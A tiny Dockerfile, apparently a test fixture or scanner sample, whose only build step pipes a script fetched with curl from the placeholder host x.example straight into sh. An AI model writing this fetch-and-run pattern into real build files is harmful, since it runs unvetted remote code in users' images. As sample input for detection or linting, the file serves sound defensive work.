# lines: 3
FROM debian:12
RUN sh -c "$(curl -fsSL https://x.example)"
